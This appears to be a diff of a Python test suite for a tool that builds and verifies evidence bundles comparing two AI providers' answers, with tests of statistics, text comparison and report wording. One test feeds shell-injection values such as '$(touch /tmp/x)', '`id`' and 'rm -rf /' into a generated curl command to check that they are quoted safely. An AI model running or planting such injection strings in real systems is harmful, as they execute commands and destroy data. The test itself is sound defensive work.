+    line: str = write_curl_line(request, "EXAMPLE_KEY")
     assert '"${ACCOUNT_ID}"' in line
     words = shlex.split(line)
     assert "https://api.example.com/${ACCOUNT_ID}/$(touch /tmp/x)/`id`/v1" in words
     assert "Authorization: Bearer $EXAMPLE_KEY" in words
     script = line.replace("curl", "printf '%s\\n'", 1)
     shown = subprocess.run(
-        ["sh", "-c", script], capture_output=True, text=True, check=True, env={"EXAMPLE_KEY": "k", "ACCOUNT_ID": "acc"}
+        ["sh", "-c", script],
+        capture_output=True,
+        text=True,
+        check=True,
+        env={"EXAMPLE_KEY": "k", "ACCOUNT_ID": "acc", "OTHER_KEY": "other"},
     ).stdout
     assert "https://api.example.com/acc/$(touch /tmp/x)/`id`/v1" in shown
     assert "x-title: it's $HOME; rm -rf /" in shown
+    assert "x-auth: Token other" in shown
 
 
 def test_no_key_gets_into_a_bundle(tmp_path: Path) -> None:
@@ -1231,9 +1293,9 @@ def test_the_figures_are_those_of_the_report(seed: int, texts: Sequence[str], tm
     sides = counted(opened)
     analysis = analyse(opened)
     for s in "ab":
-        emr = verify_bundle.measure_side(sides[s], [])["emr"]
+        emr = bundle_figures.measure_side(sides[s], [])["emr"]
         assert float(emr.split()[0]) == pytest.approx(figure(analysis, "repeat", "emr", s), abs=6e-4)
-    found = verify_bundle.compare_sides(sides["a"], sides["b"])
+    found = bundle_figures.compare_sides(sides["a"], sides["b"])
     assert float(found["match"].split()[0]) == pytest.approx(figure(analysis, "cross", "cross_emr", "a"), abs=6e-4)
 
 
@@ -1242,10 +1304,10 @@ def counted(opened: Run) -> dict[str, dict[str, list[Any]]]:
     sides = [ClaimSide(letter=s, provider=s, runs=[opened], key_variable=None) for s in "ab"]
     (gathered,) = gather_answers(sides, None).values()
     lines = "".join(json.dumps(line) + "\n" for line in gathered.lines).encode()
-    read = verify_bundle.read_answers({**gathered.files, "answers.jsonl": lines})
+    read = verify_bundle.read_answers({**gathered.files, "answers.jsonl": lines}, {"sides": {"a": "a", "b": "b"}})
     found: dict[str, dict[str, list[Any]]] = {"a": {}, "b": {}}
     for side, by_prompt in found.items():
-        for one in verify_bundle.first_usable_answers(x for x in read if x["side"] == side):
+        for one in bundle_figures.first_usable_answers(x for x in read if x["side"] == side):
             by_prompt.setdefault(one["prompt"], []).append(one)
     return found
 
@@ -1284,22 +1346,22 @@ def test_the_permutation_test_agrees_with_all_permutations() -> None:
     observed = sum(exact_excess(*pool) for pool in pools)
     sums = [sum(parts) for parts in product(*(_dealt(left + right, len(left)) for left, right in pools))]
     exact = sum(s >= observed - 1e-9 for s in sums) / len(sums)
-    found = verify_bundle.compare_sides(*given_texts(pools))
+    found = bundle_figures.compare_sides(*given_texts(pools))
     assert float(found["p"]) == pytest.approx(exact, abs=0.05)
-    assert found["excess"] == f"{observed / 2:.3f} over 2 prompts"
-    assert float(verify_bundle.compare_sides(*given_texts([("xx", "yy")] * 9))["p"]) == pytest.approx(1e-3, abs=2e-3)
-    assert verify_bundle.compare_sides(*given_texts([("xx", "xx")]))["p"] == "1.000"
+    assert found["excess"].startswith(f"{observed / 2:.3f} [")
+    assert float(bundle_figures.compare_sides(*given_texts([("xx", "yy")] * 9))["p"]) == pytest.approx(1e-3, abs=2e-3)
+    assert bundle_figures.compare_sides(*given_texts([("xx", "xx")]))["p"] == "1.000"
 
 
 def test_p_is_never_zero() -> None:
     """The deal as it was is one of those that chance could have made."""
-    assert verify_bundle.compare_sides(*given_texts([("x" * 9, "y" * 9)] * 9))["p"] == "0.001"
+    assert bundle_figures.compare_sides(*given_texts([("x" * 9, "y" * 9)] * 9))["p"] == "0.001"
 
 
 def test_excess_divergence_by_hand() -> None:
     """Half of 1/3 and 1/3, minus 2/9; and 0 where both sides differ no more than each from itself."""
-    assert verify_bundle.compare_sides(*given_texts([("xxy", "xzz")]))["excess"] == "0.111 over 1 prompts"
-    assert verify_bundle.compare_sides(*given_texts([("xx", "xx")]))["excess"] == "0.000 over 1 prompts"
+    assert bundle_figures.compare_sides(*given_texts([("xxy", "xzz")]))["excess"] == "0.111 over 1 prompt"
+    assert bundle_figures.compare_sides(*given_texts([("xx", "xx")]))["excess"] == "0.000 over 1 prompt"
 
 
 def _dealt(pool: str, n: int) -> list[float]:
@@ -1312,7 +1374,7 @@ def _dealt(pool: str, n: int) -> list[float]:
 
 def test_a_cut_text_is_compared_as_far_as_it_goes() -> None:
     """In dubio pro reo: what a cut text begins, it may have become."""
-    alike: Callable[[Any, Any], bool] = verify_bundle.are_same
+    alike: Callable[[Any, Any], bool] = bundle_figures.are_same
     assert alike(of("ab", cut=True), of("abc"))
     assert alike(of("abc"), of("ab", cut=True))
     assert alike(of("ab\ufffd", cut=True), of("abé"))
@@ -1323,7 +1385,7 @@ def test_a_cut_text_is_compared_as_far_as_it_goes() -> None:
 
 def test_texts_cut_after_the_same_number_of_tokens_are_as_long_as_they_can_be() -> None:
     """Of a night of one token " I" and " It" are two answers; where limits differ or are unknown one may go on."""
-    alike: Callable[[Any, Any], bool] = verify_bundle.are_same
+    alike: Callable[[Any, Any], bool] = bundle_figures.are_same
     assert not alike(of(" I", cut=True, tokens=1), of(" It", cut=True, tokens=1))
     assert alike(of(" I", cut=True, tokens=1), of(" I", cut=True, tokens=1))
     assert alike(of(" I", cut=True, tokens=1), of(" It", cut=True, tokens=2))
@@ -1343,10 +1405,10 @@ def test_reasoning_that_differs_is_a_difference(tmp_path: Path) -> None:
     assert "part in their reasoning, at character 1: U+0061 against U+0068 (of 3 and 2 characters)" in text
     assert "`a` 2 + 1 of 3" in text
     assert "reasoning stands in 3 of 3." in text
-    verify_bundle.verify(made.files)
+    verify(made.files)
     forged = restated(dict(made.files), "responses/000002.body", '"hm"', '"aha"')
-    with pytest.raises(verify_bundle.BrokenBundle, match="answer 2: its reasoning is not the one in"):
-        verify_bundle.verify(forged)
+    with pytest.raises(bundle_figures.BrokenBundle, match="answer 2: its reasoning is not the one in"):
+        verify(forged)
 
 
 def test_reasoning_shown_now_and_then_is_a_difference(tmp_path: Path) -> None:
@@ -1368,7 +1430,7 @@ def test_a_refusal_beside_an_answer_is_a_difference(tmp_path: Path) -> None:
     given = [attempt("a", "p0", 0, "one"), attempt("a", "p0", 1, "", refusal="I won't", kind="content_filter")]
     made = claim(run_of(tmp_path, given))
     assert "part in their text" in made.files["CLAIM.md"].decode()
-    verify_bundle.verify(made.files)
+    verify(made.files)
     unlike = [attempt("a", "p0", r, "", refusal=f"No, {r}", kind="content_filter") for r in range(2)]
     assert "part in their refusal, at character 5" in page(run_of(tmp_path / "two", unlike))
 
@@ -1395,23 +1457,36 @@ def test_who_shows_reasoning_is_compared_by_what_both_show(tmp_path: Path) -> No
     assert "Only one of `a` and `b` ever shows its reasoning; the two are compared by what both show" in text
     assert "part in their text" in text
     assert "`a` 4 of 4, `b` 4 of 4" in text
-    verify_bundle.verify(made.files)
-
-
-def test_a_bundle_of_an_older_format_names_its_own_checker(bundle: Bundle) -> None:
-    """What another format's answers hold would be compared by a part; its own verify.py knows how they are read."""
-    files = resealed(changed(dict(bundle.files), "claim.json", '"format": 4', '"format": 3'))
-    with pytest.raises(verify_bundle.BrokenBundle, match=r"of format 3, this checks 4: run the verify\.py in it"):
-        verify_bundle.verify(files)
+    verify(made.files)
 
 
 def test_an_interval_never_rounds_to_certainty() -> None:
-    """Wilson's interval by its published example, 1 of 10; and an edge that stays an edge."""
-    assert verify_bundle.format_share([1] + [0] * 9) == "0.100 [0.017, 0.405] over 10 prompts"
-    assert verify_bundle.format_share([True] + [False] * 9) == "1 of 10, 0.100 [0.017, 0.405] over 10 prompts"
-    assert verify_bundle.format_share([1.0] * 10) == "1.000 [0.722, 1.000] over 10 prompts"
-    assert verify_bundle.format_share([1.0] * 9999 + [0.9]).startswith("0.999 ")
-    assert verify_bundle.format_share([]) == "not measured"
+    """Wilson's and Jeffreys' intervals by their published example, 1 of 10; and an edge that stays an edge."""
+    shares: Callable[[Any], str] = bundle_figures.format_share
+    assert shares([1] + [0] * 9) == "0.100 [0.011, 0.382] over 10 prompts"
+    assert shares([True] + [False] * 9) == "1 of 10, 0.100 [0.017, 0.405] over 10 prompts"
+    assert shares([1.0] * 10) == "1.000 [0.741, 1.000] over 10 prompts"
+    assert shares([1.0] * 9999 + [0.9]).startswith("0.999 ")
+    assert shares([0.5]) == "0.500 over 1 prompt"
+    assert shares([]) == "not measured"
+
+
+@pytest.mark.parametrize("seed", range(40))
+def test_a_figure_has_one_interval_everywhere(seed: int) -> None:
+    """Whoever holds a bundle beside its report must not find two intervals for one figure."""
+    dice = random.Random(seed)
+    n = dice.choice((2, 3, 7, 40, 300))
+    kinds = ([True, False], [0.0, 1.0], [0.0, 1 / 3, 1.0], [1.0], [0.9, 1.0])
+    values = [dice.choice(kinds[seed % len(kinds)]) for _ in range(n)]
+    counts = all(isinstance(v, bool) for v in values)
+    share = wilson_proportion(sum(map(bool, values)), n) if counts else share_over_prompts(np.array(values))
+    excess = divergence_over_prompts(np.array([float(v) / 2 for v in values]))
+    for text, estimate in (
+        (bundle_figures.format_share(values), share),
+        (bundle_figures.format_excess([float(v) / 2 for v in values]), excess),
+    ):
+        shown = [float(x) for x in re.findall(r"-?\d\.\d{3}", text)]
+        assert shown[-2:] == pytest.approx([estimate.low, estimate.high], abs=1.01e-3), text
 
 
 # --- from a finding to its bundle ----------------------------------------------------------------
@@ -1429,7 +1504,7 @@ def test_a_finding_of_the_report_becomes_a_claim(tmp_path: Path) -> None:
     for number, finding in enumerate(found, start=1):
         if finding.rule in rules:
             made = claim(opened, claims.accuse_by_finding(found, number))
-            assert verify_bundle.verify(dict(made.files)).startswith("holds")
+            assert verify(dict(made.files)).startswith("holds")
     with pytest.raises(UsageError, match="which finding"):
         claims.accuse_by_finding(found)
     with pytest.raises(UsageError, match="--finding 9 cannot be claimed"):
@@ -1445,16 +1520,23 @@ def test_a_deviation_from_the_reference_calls_it_a_yardstick(run: Run) -> None:
     assert "corrected for all pairs it tested (Holm), has p = `0.004`" in text
 
 
+def outline_of(made: Bundle) -> list[str]:
+    claimed = json.loads(made.files["claim.json"])
+    answers = verify_bundle.read_answers(made.files, claimed)
+    lines: list[str] = write_outline(describe_subject(claimed, answers))
+    return lines
+
+
 def test_only_figures_have_digits(bundle: Bundle) -> None:
     """Words that state a number of their own could not be recomputed."""
-    for line in json.loads(bundle.files["claim.json"])["page"]:
-        assert not re.search(r"\d", re.sub(r"{[^{}]*}", "", line))
+    for line in outline_of(bundle):
+        assert not re.search(r"\d", re.sub(r"{[^{}]*}", "", line).replace("`python3 -I", ""))
 
 
 def test_every_figure_says_how_it_is_computed(bundle: Bundle) -> None:
     """claim.json has the legend: a way to each figure of the page."""
     value = json.loads(bundle.files["claim.json"])
-    assert value["how"].keys() == set(re.findall(r"{([^{}]*)}", "\n".join(value["page"])))
+    assert value["how"].keys() == set(re.findall(r"{([^{}]*)}", "\n".join(outline_of(bundle))))
     assert all(value["how"].values())
 
 
@@ -1463,7 +1545,7 @@ def test_the_page_names_endpoint_and_load(bundle: Bundle) -> None:
     text = bundle.files["CLAIM.md"].decode()
     for part in (
         URL,
-        "`chatcmpl-a-2-1`",
+        "`chatcmpl-a-0-2-1`",
         "in flight `1`",
         "Fri, 02 Jan 2026 03:04:05 GMT",
         "at least since `2026-01-02T03:04:02.000+00:00`",
